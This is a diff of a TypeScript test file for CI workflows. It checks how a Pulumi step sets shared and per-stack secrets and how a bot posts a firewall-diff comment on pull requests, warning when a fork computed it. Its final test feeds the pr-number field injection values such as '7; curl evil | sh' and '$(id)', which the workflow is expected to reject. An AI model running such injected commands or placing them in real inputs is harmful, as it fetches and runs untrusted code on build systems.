@@ -107,6 +107,8 @@ const secretNames = (wf: Workflow) => [...new Set([...JSON.stringify(wf).matchAl
 const fakeSecret = (name: string) => `-----BEGIN ${name}-----\nvalue of ${name} with 'quotes', "double", $HOME and \`date\`\n-----END ${name}-----\n`;
 /** Every secret the workflows read, set. */
 const ALL_SECRETS = Object.fromEntries([...new Set(workflows.flatMap(([, wf]) => secretNames(wf)))].map((n) => [n, fakeSecret(n)]));
+/** The secrets without a stack's own (SSH_PRIVATE_KEY_PROD): what a repository with one key for all stacks has. */
+const SHARED_SECRETS = Object.fromEntries(Object.entries(ALL_SECRETS).filter(([n]) => !/_(DEV|PROD)$/.test(n)));
 
 interface Given {
     secrets: Record<string, string>;
@@ -582,7 +584,7 @@ describe("the stack secrets in every preview and deploy job (.ci/stack-secrets.s
         expect(install).toBeGreaterThan(-1);
         expect(install).toBeLessThan(job.steps.indexOf(step));
 
-        const r = runStep(wf, job, step, { secrets: ALL_SECRETS, stack });
+        const r = runStep(wf, job, step, { secrets: SHARED_SECRETS, stack });
         expect(r.log).toBe(r.log.replace(/::error::.*/, "")); // no error
         expect(r.status).toBe(0);
         expect(r.calls[0].args).toEqual(["login", "--non-interactive"]);
@@ -598,13 +600,21 @@ describe("the stack secrets in every preview and deploy job (.ci/stack-secrets.s
         expect(r.log).toContain("sshPrivateKey: set from the secret SSH_PRIVATE_KEY");
     });
 
+    test.each(pulumiJobs)("$name: a stack's own secret (SSH_PRIVATE_KEY_<STACK>) wins over the shared one, where the job is given it", ({ wf, job, stack }) => {
+        const r = runStep(wf, job, setter(job), { secrets: ALL_SECRETS, stack });
+        expect(r.status).toBe(0);
+        const own = `SSH_PRIVATE_KEY_${stack!.toUpperCase()}`;
+        const given = (setter(job).env ?? {})[own] !== undefined;
+        expect([own, configSets(r.calls, stack, "sshPrivateKey")[0].stdin]).toEqual([own, given ? ALL_SECRETS[own] : ALL_SECRETS.SSH_PRIVATE_KEY]);
+    });
+
     test.each(pulumiJobs)("$name: a secret the step does not pass on is an error naming it, not a stack without the key", ({ wf, job, stack }) => {
         // What a workflow that forgot a key's secret does (the test above fails on it, this is why).
         const step = setter(job);
         for (const key of REQUIRED_SECRET_KEYS) {
             const name = secretNameOf(key);
             const env = Object.fromEntries(Object.entries(step.env ?? {}).filter(([k]) => k !== name));
-            const r = runStep(wf, job, { ...step, env }, { secrets: ALL_SECRETS, stack });
+            const r = runStep(wf, job, { ...step, env }, { secrets: SHARED_SECRETS, stack });
             expect(r.status).toBe(1);
             expect(r.log).toContain(`::error::The stack ${stack} needs ${key}: add the secret ${name}`);
             expect(configSets(r.calls, stack, key)).toEqual([]);
@@ -676,23 +686,23 @@ describe("the stack secrets in every preview and deploy job (.ci/stack-secrets.s
         const { wf, job, stack } = pulumiJobs[0];
         const step = setter(job);
         const withDialIn = { stacks: [stack], config: { [stack]: ["dialIn"] } };
-        const r = runStep(wf, job, step, { secrets: ALL_SECRETS, stack }, withDialIn);
+        const r = runStep(wf, job, step, { secrets: SHARED_SECRETS, stack }, withDialIn);
         expect(r.status).toBe(0);
         const [set] = configSets(r.calls, stack, "dialIn.gateway.password");
         expect(set.args).toEqual(expect.arrayContaining(["--secret", "--path"]));
-        expect(set.stdin).toBe(ALL_SECRETS.DIAL_IN_GATEWAY_PASSWORD);
+        expect(set.stdin).toBe(SHARED_SECRETS.DIAL_IN_GATEWAY_PASSWORD);
 
-        const missing = runStep(wf, job, step, { secrets: { ...ALL_SECRETS, DIAL_IN_GATEWAY_PASSWORD: "" }, stack }, withDialIn);
+        const missing = runStep(wf, job, step, { secrets: { ...SHARED_SECRETS, DIAL_IN_GATEWAY_PASSWORD: "" }, stack }, withDialIn);
         expect(missing.status).toBe(1);
         expect(missing.log).toContain(`::error::The stack ${stack} needs dialIn.gateway.password: add the secret DIAL_IN_GATEWAY_PASSWORD`);
 
-        const none = runStep(wf, job, step, { secrets: ALL_SECRETS, stack });
+        const none = runStep(wf, job, step, { secrets: SHARED_SECRETS, stack });
         expect(configSets(none.calls, stack, "dialIn.gateway.password")).toEqual([]);
     });
 
     test("a stack the backend does not have: an error saying to create it once, and nothing set", () => {
         const { wf, job, stack } = pulumiJobs[0];
-        const r = runStep(wf, job, setter(job), { secrets: ALL_SECRETS, stack }, { stacks: [] });
+        const r = runStep(wf, job, setter(job), { secrets: SHARED_SECRETS, stack }, { stacks: [] });
         expect(r.status).toBe(1);
         expect(r.log).toContain(`::error::Could not select the stack ${stack} in the Pulumi backend. If it does not exist yet, create it once: pulumi stack init ${stack}`);
         expect(r.calls.filter((c) => c.args[1] === "set")).toEqual([]);
@@ -819,7 +829,7 @@ describe("pull-request-comment.yml (the firewall diff comment, also for pull req
             },
             paginate: async (method: unknown, args: Record<string, unknown>) => {
                 expect(method).toBe(issues.listComments);
-                expect(args).toMatchObject({ owner: "o", repo: "r", issue_number: 7 });
+                expect(args).toMatchObject({ owner: "o", repo: "r", issue_number: expect.any(Number) });
                 return existing;
             },
         };
@@ -828,10 +838,22 @@ describe("pull-request-comment.yml (the firewall diff comment, also for pull req
         return { writes, log, failed: log.filter(([kind]) => kind === "failed").map(([, m]) => m) };
     }
 
-    test("a fork's pull request (the run lists none): posts the comment once the pull request's branch and commit are the run's", async () => {
+    /** BODY as posted for a fork: under the marker, a warning that the fork's own code computed it. */
+    const FROM_FORK = expect.stringMatching(
+        /^<!-- bbb-firewall-diff -->\n> \[!WARNING\]\n> Computed by this pull request's own code, from the fork someone\/bbb: [^\n]+\n\n## Firewall rules\n\nSecurity group rules change in: \*\*dev\*\*\.\n$/,
+    );
+
+    test("a fork's pull request (the run lists none): posts the comment once the pull request's branch and commit are the run's, saying the fork's code computed it", async () => {
         const r = await runPost({ "pr-number": "7\n", "comment.md": BODY });
         expect(r.failed).toEqual([]);
-        expect(r.writes).toEqual([["create", { owner: "o", repo: "r", issue_number: 7, body: BODY }]]);
+        expect(r.writes).toEqual([["create", { owner: "o", repo: "r", issue_number: 7, body: FROM_FORK }]]);
+    });
+
+    test("a branch of this repository: the comment as the run made it, without the fork's warning", async () => {
+        const own = { ...RUN, head_repository: { full_name: "o/r" }, head_branch: "other", head_sha: PULLS[8].head.sha, pull_requests: [{ number: 8 }] };
+        const r = await runPost({ "pr-number": "8", "comment.md": BODY }, own);
+        expect(r.failed).toEqual([]);
+        expect(r.writes).toEqual([["create", { owner: "o", repo: "r", issue_number: 8, body: BODY }]]);
     });
 
     test("edits its own earlier comment, never somebody else's quoting the marker", async () => {
@@ -841,7 +863,7 @@ describe("pull-request-comment.yml (the firewall diff comment, also for pull req
             { id: 3, body: "<!-- bbb-firewall-diff -->\nold", user: { login: "github-actions[bot]" } },
         ];
         const r = await runPost({ "pr-number": "7\n", "comment.md": BODY }, RUN, existing);
-        expect(r.writes).toEqual([["update", { owner: "o", repo: "r", comment_id: 3, body: BODY }]]);
+        expect(r.writes).toEqual([["update", { owner: "o", repo: "r", comment_id: 3, body: FROM_FORK }]]);
     });
 
     test.each([["", "empty"], ["7; curl evil | sh", "a command"], ["07", "a leading zero"], ["$(id)", "a substitution"], ["99999999999", "too long"]])(
